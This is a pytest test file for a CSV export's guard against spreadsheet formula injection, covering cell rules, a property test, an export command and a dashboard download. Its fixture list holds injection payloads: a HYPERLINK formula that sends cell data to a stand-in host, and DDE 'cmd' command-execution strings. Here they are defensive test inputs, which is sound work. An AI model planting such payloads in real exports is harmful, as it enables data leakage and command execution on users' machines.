"""CSV exports guarded against formula injection (OWASP "CSV Injection"): the cell rules, a
hypothesis property over any text, the `export` command on a real lake partition, and the
dashboard's accounts.csv download."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import UTC, date, datetime
from pathlib import Path

import pandas as pd
import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient
from hypothesis import given, settings
from hypothesis import strategies as st

from include.scoring.lake import catalog
from include.scoring.publish.csv_export import FORMULA_START, guard, needs_guard, read_rows, to_csv_text, unguard
from tests.conftest import examples

ROOT = Path(__file__).resolve().parents[3]
ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",  # full-width equals sign
    "'=already quoted once",
    "''@twice",
]
SAFE = [
    "Acme Corp",
    "'Tis the Season Ltd",
    "1+1",
    " =leading space",
    "",
    "O'Brien & Sons",
    "-5",
    "+1.5e3",
    "-0.25",
    "Ünïcødé 🚀",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_starts_get_one_leading_quote_and_come_back_unchanged(value):
    guarded = guard(value)
    assert guarded == "'" + value
    assert unguard(guarded) == value


@pytest.mark.parametrize("value", SAFE)
def test_ordinary_text_and_plain_numbers_are_left_alone(value):
    assert guard(value) == value and unguard(value) == value


def test_numbers_stay_numbers_and_missing_values_are_empty():
    text = to_csv_text(
        ["a", "b", "c", "d", "e", "f", "g"], [[-3.5, -2, float("nan"), None, pd.NaT, date(2026, 11, 20), True]]
    )
    assert text.splitlines()[1] == "-3.5,-2,,,,2026-11-20,true"
    assert (
        to_csv_text(["when"], [[datetime(2026, 11, 20, 9, 30, tzinfo=UTC)]]).splitlines()[1]
        == "2026-11-20T09:30:00+00:00"
    )


def test_header_cells_are_guarded_too():
    assert to_csv_text(["=evil()", "ok"], []).splitlines()[0] == "'=evil(),ok"


FORMULA_HEADS = st.sampled_from(["", *FORMULA_START, "'", "''", "-1", "+"])
TEXT = st.builds(lambda head, tail: head + tail, FORMULA_HEADS, st.text(max_size=40))


@settings(max_examples=examples(400), deadline=None)
@given(st.lists(st.lists(TEXT, min_size=3, max_size=3), max_size=8))
def test_no_text_cell_can_start_a_formula_and_the_csv_round_trips(rows):
    text = to_csv_text(["name", "owner", "next_action"], rows)
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert len(parsed) == len(rows) + 1
    for original, written in zip(rows, parsed[1:]):
        for value, cell in zip(original, written):
            # what a spreadsheet sees: either not a formula start, or the quote that makes it text, or a plain number
            assert not cell.startswith(FORMULA_START) or not needs_guard(cell), (value, cell)
            if value.lstrip("'").startswith(FORMULA_START) and needs_guard(value):
                assert cell.startswith("'")
    assert read_rows(text)[1:] == [list(r) for r in rows]  # stripping the guard gives back every original string


@settings(max_examples=examples(100))
@given(st.text(max_size=60))
def test_unguard_inverts_guard_for_any_text(value):
    assert unguard(guard(value)) == value


# the `export` command on a real lake partition ---------------------------------------------------
def _scores_partition(lake_root: Path, day: date) -> pd.DataFrame:
    from include.scoring.lake.store import Lake
    from include.scoring.score.outputs import SCORE_SCHEMA

    rows = []
    for i, name in enumerate([*ATTACKS, "Plain Ltd"]):
        rows.append(
            {
                "account_id": f"ACC-{i:06d}",
                "as_of": day,
                "score": 50.0 - i,
                "band": "warm",
                "engagement_percentile": 100.0 - i,
                "accumulated": 50.0,
                "breadth": 0.0,
                "engaged_people": 1,
                "new_people_14d": 0,
                "buying_group_coverage": 0.0,
                "missing_roles": "=decision_maker",  # text from the config: guarded like any cell
                "health": None,
                "points_today": 0.0,
                "trend": "down",
                "change_7d": -3.5,
                "change_28d": -12.25,
                "surge": False,
                "last_touch_at": datetime(2026, 11, 19, 10, tzinfo=UTC),
                "last_touch_signal": "page_view",
                "days_since_engagement": 1,
                "next_action": '=HYPERLINK("http://evil.example")',
                "lifecycle": "prospect",
                "account_name": name,
                "abm_tier": 1,
                "owner_email": "@owner@example.com",
                "sdr_email": None,
                "config_version": "v1",
            }
        )
    frame = pd.DataFrame(rows)
    import pyarrow as pa

    Lake(str(lake_root)).write_partition(
        catalog.SCORES, day, pa.Table.from_pandas(frame, schema=SCORE_SCHEMA, preserve_index=False)
    )
    return frame


def test_export_command_writes_guarded_csv_that_reads_back(tmp_path):
    day = date(2026, 11, 20)
    frame = _scores_partition(tmp_path / "lake", day)
    out = tmp_path / "out" / "scores.csv"
    env = {**os.environ, "PYTHONPATH": str(ROOT), "ENGAGEMENT_LAKE": str(tmp_path / "lake")}
    done = subprocess.run(
        [sys.executable, "-m", "include.scoring", "export", "--date", day.isoformat(), "--out", str(out)],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env=env,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr
    assert f"{len(frame)} account(s) written to {out}" in done.stderr
    raw = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert len(raw) == len(frame)
    for row in raw:
        for column in ("account_name", "next_action", "owner_email"):
            assert not row[column].startswith(FORMULA_START), (column, row[column])
        assert row["change_7d"] == "-3.5" and row["change_28d"] == "-12.25"  # negative numbers stay numbers
    back = read_rows(out.read_bytes().decode("utf-8"))  # bytes: a carriage return inside a cell must stay one
    header = back[0]
    names = {r[header.index("account_name")] for r in back[1:]}
    assert names == set(frame["account_name"])  # unguarded, every original string
    stdout = subprocess.run(
        [sys.executable, "-m", "include.scoring", "export", "--date", day.isoformat()],
        capture_output=True,
        cwd=ROOT,
        env=env,
        timeout=300,
    )
    assert stdout.returncode == 0 and stdout.stdout == out.read_bytes()


def test_export_of_a_day_not_scored_is_a_clear_error(tmp_path):
    env = {**os.environ, "PYTHONPATH": str(ROOT), "ENGAGEMENT_LAKE": str(tmp_path / "lake")}
    done = subprocess.run(
        [sys.executable, "-m", "include.scoring", "export", "--date", "2026-11-20"],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env=env,
        timeout=300,
    )
    assert done.returncode == 1 and "error:" in done.stderr and "Traceback" not in done.stderr


# the dashboard's download -----------------------------------------------------------------------
def test_dashboard_accounts_csv_is_guarded_filtered_and_complete(tmp_path):
    from include.dashboard.app import create_app
    from include.dashboard.source import Warehouse
    from include.scoring.lake.catalog import SCORES
    from include.scoring.publish import warehouse

    SCORE_COLUMNS = list(SCORES.columns)

    url = f"sqlite:///{tmp_path / 'wh.sqlite'}"
    frame = _scores_partition(tmp_path / "lake", date(2026, 11, 20))
    engine = sa.create_engine(url)
    warehouse.metadata.create_all(engine)
    with engine.begin() as conn:
        conn.execute(warehouse.account_scores.insert(), warehouse.records(frame, SCORE_COLUMNS))
        conn.execute(
            warehouse.account_scores.insert(),
            [
                {
                    **warehouse.records(frame, SCORE_COLUMNS)[0],
                    "account_id": f"BULK-{i:04d}",
                    "account_name": f"Bulk {i}",
                }
                for i in range(60)
            ],
        )
    engine.dispose()
    with TestClient(create_app(Warehouse(lambda: url))) as client:
        page = client.get("/")
        assert 'href="/accounts.csv"' in page.text
        everything = client.get("/accounts.csv")
        assert everything.status_code == 200 and everything.headers["content-type"].startswith("text/csv")
        assert "attachment" in everything.headers["content-disposition"]
        rows = read_rows(everything.text)
        assert len(rows) - 1 == len(frame) + 60  # every account, not one page of 50
        raw = list(csv.reader(io.StringIO(everything.text, newline="")))
        name_at = raw[0].index("account_name")
        assert all(not r[name_at].startswith(FORMULA_START) for r in raw[1:])
        assert {r[name_at] for r in rows[1:]} >= set(frame["account_name"])
        searched = client.get("/accounts.csv", params={"q": "HYPERLINK"})
        assert [r[name_at] for r in read_rows(searched.text)[1:]] == [ATTACKS[0]]
        assert client.get("/accounts.csv", params={"sort": "nonsense"}).status_code == 400
